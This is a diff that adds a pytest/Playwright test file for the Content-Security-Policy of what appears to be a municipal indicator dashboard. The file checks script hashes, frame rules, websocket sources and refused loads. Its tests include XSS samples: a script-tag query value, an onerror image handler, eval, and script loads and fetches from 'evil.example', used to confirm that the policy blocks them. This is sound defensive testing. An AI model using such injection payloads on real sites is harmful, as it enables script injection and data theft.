@@ -1,0 +1,125 @@
+"""What a browser may run and load: all that our pages need, and nothing that slips in."""
+
+import re
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.ask import asked
+from tests.pages.conftest import patient
+from tests.pages.test_browser import PATIENCE, VIEWS, words
+from tests.pages.test_embedded import WATCH, Host, elsewhere  # noqa: F401 - a fixture
+
+ONE = {"gemeente": "Harelbeke", "indicator": "armoederisico"}
+
+
+def parts(answer):
+    """Directive → its sources."""
+    found = answer.headers["content-security-policy"].split("; ")
+    return {each.partition(" ")[0]: each.partition(" ")[2].split() for each in found}
+
+
+def test_scripts_in_a_page_are_those_that_its_policy_names(dataset):
+    answer = asked(dataset, "indicator", ONE)
+    allowed = parts(answer)["script-src"]
+    scripts = re.findall(r"<script[^>]*>([^<]+)</script>", answer.text)
+    hashes = [each for each in allowed if each.startswith("'sha256-")]
+    assert len(hashes) == len(scripts) == 2
+    assert set(allowed) - set(hashes) == {"'self'", "blob:", "'wasm-unsafe-eval'"}
+
+
+def test_policy_does_not_depend_on_what_a_link_says(dataset):
+    evil = asked(dataset, "zoek", {"zoek": "<script>alert(1)</script>"})
+    assert parts(evil)["script-src"] == parts(asked(dataset, "zoek"))["script-src"]
+
+
+@pytest.mark.parametrize(
+    ("link", "sites"), [({}, "'self'"), ({"embed": "true"}, "*"), ({"embed": "nee"}, "'self'")]
+)
+def test_other_sites_show_a_page_in_a_frame_only_where_that_is_asked(dataset, link, sites):
+    assert parts(asked(dataset, "indicator", ONE | link))["frame-ancestors"] == [sites]
+
+
+def test_websocket_is_that_of_the_public_address(dataset):
+    found = parts(asked(dataset, "", address="https://stad.example/sdg"))
+    assert found["connect-src"] == ["'self'", "ws://stad.example", "wss://stad.example"]
+
+
+def test_page_of_one_sentence_runs_nothing(dataset):
+    assert parts(asked(dataset, "nergens.txt"))["default-src"] == ["'none'"]
+
+
+@pytest.fixture
+def watched(browser, app_url):
+    """A tab that keeps what the policy refused."""
+    context = browser.new_context(
+        base_url=app_url, viewport={"width": 1280, "height": 900}, accept_downloads=True
+    )
+    context.add_init_script(WATCH)
+    yield patient(context.new_page())
+    context.close()
+
+
+def refused(page):
+    return page.evaluate("window.refused")
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("view", VIEWS)
+def test_page_needs_nothing_that_is_refused(watched, view):
+    watched.goto(VIEWS[view])
+    words(watched)
+    assert refused(watched) == []
+
+
+@pytest.mark.browser
+def test_map_and_chart_do_all_that_they_can(watched):
+    watched.goto(VIEWS["verken"])
+    words(watched)
+    watched.locator(".js-plotly-plot .nsewdrag").first.hover()
+    with watched.expect_download(timeout=PATIENCE) as download:
+        watched.locator(".modebar-btn").first.click()
+    assert download.value.path().stat().st_size > 5000
+    assert refused(watched) == []
+    watched.goto("/")
+    expect(watched.locator("svg[data-drawn='285']")).to_be_visible(timeout=PATIENCE)
+    watched.locator("svg path[data-code='34013']").click()
+    expect(watched.get_by_role("heading", level=1)).to_have_text(
+        re.compile("Harelbeke"), timeout=PATIENCE
+    )
+    assert refused(watched) == []
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
+        "document.body.append(s)",
+        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
+        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
+        "document.body.append(s)",
+        "setTimeout(() => { try { eval('window.ran = 1') } catch {} }, 50)",
+        "fetch('https://evil.example/').catch(() => {})",
+    ],
+)
+def test_what_slips_in_does_not_run(watched, attempt):
+    watched.goto(VIEWS["nieuw"])
+    watched.evaluate(f"() => {{ {attempt} }}")
+    watched.wait_for_function("() => window.refused.length", timeout=PATIENCE)
+    assert watched.evaluate("window.ran") is None
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize(("more", "shown"), [("", False), ("&embed=true", True)])
+def test_frame_elsewhere_shows_what_is_meant_for_it(browser, app_url, elsewhere, more, shown):  # noqa: F811
+    Host.page = f'<iframe src="{app_url}/nieuw?gemeente=Gent{more}"></iframe>'.encode()
+    page = browser.new_context().new_page()
+    page.goto(elsewhere)
+    heading = page.locator("iframe").content_frame.get_by_role("heading", level=1)
+    if shown:
+        heading.first.wait_for(timeout=PATIENCE)
+    else:
+        page.wait_for_timeout(1000)
+        assert heading.count() == 0
+    page.context.close()
